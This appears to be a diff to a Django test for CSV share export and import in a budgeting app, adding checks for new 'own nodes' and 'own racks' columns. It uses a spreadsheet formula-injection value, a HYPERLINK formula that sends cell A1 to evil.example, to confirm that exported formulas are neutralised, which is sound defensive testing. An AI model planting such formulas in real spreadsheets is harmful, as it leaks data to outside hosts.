@@ -14,6 +14,8 @@ from django.core.files.uploadedfile import SimpleUploadedFile
 from budgets.models import BudgetNode, LedgerEntry, Share, ShareImport
 from budgets.queries import today
 from budgets.services import shares, tree
+from scheduler.engine import CellCounts
+from scheduler.services import cells
 from tests.portal.test_pages import hidden, text_of
 
 HYPERLINK = '=HYPERLINK("https://evil.example/?x="&A1,"open")'
@@ -147,10 +149,11 @@ def test_what_is_exported_can_be_imported_and_changes_nothing(calm, as_person):
     tree.rename(node=calm.node["A1"], name=HYPERLINK, by=None)
     tree.add_child(parent=calm.node["B"], kind="project", code="B2", name="-2+3", by=None)
     tree.move(node=calm.node["A2"], parent=calm.node["B"], by=None)
+    cells.set_cells(node=calm.node["B"], cluster=calm.cluster, cells=CellCounts(node=1), by=None, reason="as agreed")
     client = as_person(calm.max)
     data = downloaded(client.get("/files/shares/?cluster=north"))
     text = data.decode("utf-8-sig")
-    assert text.startswith("parent,child,name,cluster,share %,from,until\r\n")
+    assert text.startswith("parent,child,name,cluster,share %,from,until,own nodes,own racks\r\n")
     assert "\"'=HYPERLINK(" in text
     assert ",70.00," in text
     assert not any(line.startswith(("=", "+", "-", "@")) for line in text.replace(",", "\n").splitlines())
@@ -162,6 +165,10 @@ def test_what_is_exported_can_be_imported_and_changes_nothing(calm, as_person):
         csv.writer(german, delimiter=";").writerow([re.sub(r"^(\d+)\.(\d\d)$", r"\1,\2", cell) for cell in row])
     assert ";70,00;" in german.getvalue()
     assert "would change nothing" in text_of(upload(client, german.getvalue()))
+    (mine,) = [line for line in text.splitlines() if line.startswith("LAB,B,")]
+    assert mine.endswith(",1,"), "a node of its own and no rack"
+    answer = upload(client, text.replace(mine, f"{mine[:-2]}2,"))
+    assert "own nodes B has 1 on north; a file of shares changes none" in text_of_any(answer)
     assert not ShareImport.objects.exists()
 
 
